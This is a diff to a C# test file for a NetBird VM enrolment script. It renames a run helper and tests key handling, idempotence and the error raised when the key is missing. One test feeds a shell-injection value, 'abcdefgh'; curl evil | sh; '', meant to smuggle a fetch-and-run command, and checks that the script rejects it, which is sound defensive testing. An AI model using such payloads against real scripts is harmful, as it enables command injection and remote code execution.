@@ -54,7 +54,7 @@ public sealed class NetbirdEnrolScriptTests
     }
 
     /// <summary>Runs the script as the Command does: <c>bash -s</c> with the export preamble and the script on stdin.</summary>
-    private ScriptRun RunOnStdin(IReadOnlyDictionary<string, string> secrets)
+    private ScriptRun Run(IReadOnlyDictionary<string, string> secrets)
     {
         var callsBefore = File.Exists(_sandbox.CallsLog) ? File.ReadAllLines(_sandbox.CallsLog).Length : 0;
         var env = new Dictionary<string, string>
@@ -79,7 +79,7 @@ public sealed class NetbirdEnrolScriptTests
     [Test]
     public void AFreshVmIsEnrolledWithTheKeyInAPrivateFileNeverInArgv()
     {
-        var run = RunOnStdin(KeyEnvironment);
+        var run = Run(KeyEnvironment);
 
         Assert.That(run.Result.ExitCode, Is.Zero, run.ToString());
         var up = run.Calls.Single(c => c.StartsWith("netbird up ", StringComparison.Ordinal));
@@ -103,11 +103,11 @@ public sealed class NetbirdEnrolScriptTests
     public void ASecondRunChangesNothingAndDoesNotEnrolAgain()
     {
         // The message carries the first run's output and tool calls, so a failure here explains itself.
-        var first = _sandbox.Run(Template, Values, environment: KeyEnvironment);
+        var first = Run(KeyEnvironment);
         Assert.That(first.Result.ExitCode, Is.Zero, first.ToString());
         var before = _sandbox.Snapshot();
 
-        var second = _sandbox.Run(Template, Values, environment: KeyEnvironment);
+        var second = Run(KeyEnvironment);
 
         Assert.That(second.Result.ExitCode, Is.Zero, second.ToString());
         Assert.That(second.Calls, Has.None.StartsWith("netbird up"));
@@ -121,7 +121,7 @@ public sealed class NetbirdEnrolScriptTests
     {
         var before = _sandbox.Snapshot();
 
-        var run = _sandbox.Run(Template, Values, environment: new Dictionary<string, string>());
+        var run = Run(new Dictionary<string, string>());
 
         Assert.That(run.Result.ExitCode, Is.Not.Zero);
         Assert.That(run.Result.Stderr, Does.Contain("NB_SETUP_KEY is not set"));
@@ -135,7 +135,7 @@ public sealed class NetbirdEnrolScriptTests
         const string bad = "abcdefgh'; curl evil | sh; '";
         var before = _sandbox.Snapshot();
 
-        var run = RunOnStdin(new Dictionary<string, string> { [ClusterMeshEnrolment.SetupKeyVariable] = bad });
+        var run = Run(new Dictionary<string, string> { [ClusterMeshEnrolment.SetupKeyVariable] = bad });
 
         Assert.That(run.Result.ExitCode, Is.Not.Zero);
         Assert.That(run.Result.Stderr, Does.Contain("NB_SETUP_KEY does not look like a NetBird setup key"));
